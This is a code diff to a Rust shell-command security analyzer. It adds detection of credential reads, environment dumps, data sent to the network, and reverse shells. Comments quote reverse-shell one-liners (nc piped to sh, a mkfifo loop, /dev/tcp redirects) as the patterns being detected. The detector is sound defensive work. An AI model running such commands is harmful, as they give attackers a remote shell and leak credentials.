@@ -11,8 +11,8 @@ use super::state::ScriptState;
 use super::wrappers::{basename, join, unwrap};
 use super::write_rules::{self, Place, WriteMode};
 use super::{
-    dedup, fs_rules, sql, sql_client, tool_rules, Category, RuleCtx, ShellFinding, ShellOptions,
-    MAX_DEPTH, MAX_FINDINGS,
+    dedup, exfil, fs_rules, net_rules, sql, sql_client, tool_rules, Category, RuleCtx,
+    ShellFinding, ShellOptions, MAX_DEPTH, MAX_FINDINGS,
 };
 
 pub(crate) struct Walker<'o> {
@@ -21,6 +21,12 @@ pub(crate) struct Walker<'o> {
     findings: Vec<ShellFinding>,
     too_complex: bool,
     state: ScriptState,
+    /// First credential file read anywhere in the command, described.
+    secret_read: Option<String>,
+    /// First whole-environment dump (`env`, `printenv`).
+    env_dump: Option<String>,
+    /// First command that sends data to the network.
+    sink: Option<String>,
 }
 
 /// What flows into a command's stdin from earlier in its pipeline.
@@ -37,6 +43,10 @@ struct Upstream {
 struct Output {
     remote: Option<String>,
     literal: Option<String>,
+    /// A raw network stream client (`nc host port`), described.
+    stream_client: Option<String>,
+    /// A shell that runs what it reads on stdin.
+    stdin_shell: bool,
 }
 
 impl<'o> Walker<'o> {
@@ -47,10 +57,44 @@ impl<'o> Walker<'o> {
             findings: Vec::new(),
             too_complex: false,
             state: ScriptState::default(),
+            secret_read: None,
+            env_dump: None,
+            sink: None,
         }
     }
 
     pub(crate) fn finish(mut self) -> Vec<ShellFinding> {
+        let exfil = match (
+            self.secret_read.take(),
+            self.env_dump.take(),
+            self.sink.take(),
+        ) {
+            (Some(read), _, Some(sink)) => Some(ShellFinding::new(
+                "shell.credential_exfiltration",
+                Category::Exfiltration,
+                true,
+                format!("{read} sent out by {sink}"),
+            )),
+            (None, Some(dump), Some(sink)) => Some(ShellFinding::new(
+                "shell.environment_exfiltration",
+                Category::Exfiltration,
+                true,
+                format!("environment ({dump}) sent out by {sink}"),
+            )),
+            (Some(read), _, None) => Some(
+                ShellFinding::new(
+                    "shell.credential_read",
+                    Category::CredentialAccess,
+                    false,
+                    read,
+                )
+                .needs_approval(),
+            ),
+            _ => None,
+        };
+        if let Some(f) = exfil {
+            self.push(f);
+        }
         dedup(&mut self.findings);
         self.findings
     }
@@ -106,12 +150,21 @@ impl<'o> Walker<'o> {
     fn pipeline(&mut self, p: &Pipeline, depth: usize) {
         let mut up = Upstream::default();
         let last = p.commands.len().saturating_sub(1);
+        let (mut socket, mut shell) = (None, false);
         for (i, cmd) in p.commands.iter().enumerate() {
             let out = self.command(cmd, depth, &up, i < last);
             if up.remote.is_none() {
                 up.remote = out.remote;
             }
             up.literal = out.literal;
+            socket = socket.or(out.stream_client);
+            shell |= out.stdin_shell;
+        }
+        // `nc host port | sh`, `mkfifo f; cat f | sh -i | nc host port > f`.
+        if let (Some(client), true) = (socket, shell) {
+            self.push(net_rules::reverse_shell_finding(&format!(
+                "shell piped to or from {client}"
+            )));
         }
     }
 
@@ -125,7 +178,7 @@ impl<'o> Walker<'o> {
                 Output {
                     remote: (piped && super::remote::script_fetches(body, depth))
                         .then(|| "(downloaded content)".to_string()),
-                    literal: None,
+                    ..Output::default()
                 }
             }
             Command::Function { name, body } => {
@@ -161,6 +214,19 @@ impl<'o> Walker<'o> {
         let mut stdin = None;
         for r in redirects {
             self.word_substs(&r.target, depth);
+            if matches!(
+                r.kind,
+                RedirKind::Write
+                    | RedirKind::Append
+                    | RedirKind::ReadWrite
+                    | RedirKind::Dup
+                    | RedirKind::Read
+            ) {
+                let target = expand_with(&r.target, Some(&self.state.vars));
+                if self.socket_redirect(&target.value, r.kind) {
+                    continue;
+                }
+            }
             match r.kind {
                 RedirKind::Write | RedirKind::Append | RedirKind::ReadWrite | RedirKind::Dup => {
                     let target = expand_with(&r.target, Some(&self.state.vars));
@@ -192,10 +258,55 @@ impl<'o> Walker<'o> {
                     }
                 }
                 RedirKind::HereString => stdin = Some(expand(&r.target).value.into_owned()),
-                RedirKind::Read => stdin = None,
+                RedirKind::Read => {
+                    stdin = None;
+                    let target = expand_with(&r.target, Some(&self.state.vars));
+                    let place = self.place();
+                    if let Some(file) = exfil::credential_read("<", &[target], &place) {
+                        self.secret_read.get_or_insert(format!("< {file}"));
+                    }
+                }
             }
         }
         stdin
+    }
+
+    /// Wrappers that reach the network or print the environment themselves:
+    /// `ssh host CMD` connects to `host`; a bare `env` prints everything.
+    fn wrapper_network(&mut self, wrappers: &[Arg<'_>], args: &[Arg<'_>]) {
+        for (i, w) in wrappers.iter().enumerate() {
+            let name = basename(&w.value);
+            let rest = args.get(i + 1..).unwrap_or_default();
+            if name == "ssh" {
+                let seen = join(args);
+                for dest in net_rules::destinations(name, rest) {
+                    if let Some(f) = net_rules::judge_destination(self.opts, &dest, &seen) {
+                        self.push(f);
+                    }
+                }
+                self.sink.get_or_insert(seen);
+            }
+        }
+        let only_wrappers = wrappers.len() == args.len();
+        if let Some(last) = wrappers.last().filter(|_| only_wrappers) {
+            if basename(&last.value) == "env" {
+                self.env_dump.get_or_insert_with(|| join(args));
+            }
+        }
+    }
+
+    /// `>& /dev/tcp/host/port`: bash opens a socket; with a shell's streams
+    /// on it that is a reverse shell, and anything written goes out.
+    fn socket_redirect(&mut self, target: &str, kind: RedirKind) -> bool {
+        if !(target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")) {
+            return false;
+        }
+        let shown = format!("{} {target}", redirect_op(kind));
+        self.push(net_rules::reverse_shell_finding(&format!(
+            "shell streams redirected to a network socket: {shown}"
+        )));
+        self.sink.get_or_insert(shown);
+        true
     }
 
     /// Command substitutions in an unquoted-delimiter here-document run.
@@ -257,6 +368,9 @@ impl<'o> Walker<'o> {
         for text in &un.scripts {
             self.run_text(text, depth + 1);
         }
+        // `ssh` stops unwrapping at itself: include the command at `start`.
+        let wrappers = args.get(..(un.start + 1).min(args.len()));
+        self.wrapper_network(wrappers.unwrap_or_default(), args);
         let cmd = args.get(un.start..).unwrap_or_default();
         let Some((first, rest)) = cmd.split_first() else {
             return Output::default();
@@ -345,10 +459,25 @@ impl<'o> Walker<'o> {
         let mut found = Vec::new();
         fs_rules::check(&ctx, &mut found);
         tool_rules::check(&ctx, &mut found);
-        write_rules::check(&ctx, &self.place(), &mut found);
+        let place = self.place();
+        write_rules::check(&ctx, &place, &mut found);
+        net_rules::check(&ctx, &mut found);
+        let secret = exfil::credential_read(name, rest, &place);
         for f in found {
             self.push(f);
         }
+        if let Some(file) = secret {
+            self.secret_read
+                .get_or_insert_with(|| format!("{name} reads {file}"));
+        }
+        if exfil::dumps_environment(name, rest) {
+            self.env_dump.get_or_insert_with(desc);
+        }
+        if exfil::is_sink(name, rest) {
+            self.sink.get_or_insert_with(desc);
+        }
+        let stdin_shell =
+            interpreter(name) == Some(Interp::Shell) && invocation(Interp::Shell, rest).reads_stdin;
         let source = is_source(name, rest);
         if source {
             self.state.record_downloads(name, rest);
@@ -358,6 +487,8 @@ impl<'o> Walker<'o> {
         Output {
             remote: (source || relays).then(desc),
             literal: printed_text(name, rest, stdin),
+            stream_client: net_rules::is_stream_client(name, rest).then(desc),
+            stdin_shell,
         }
     }
 
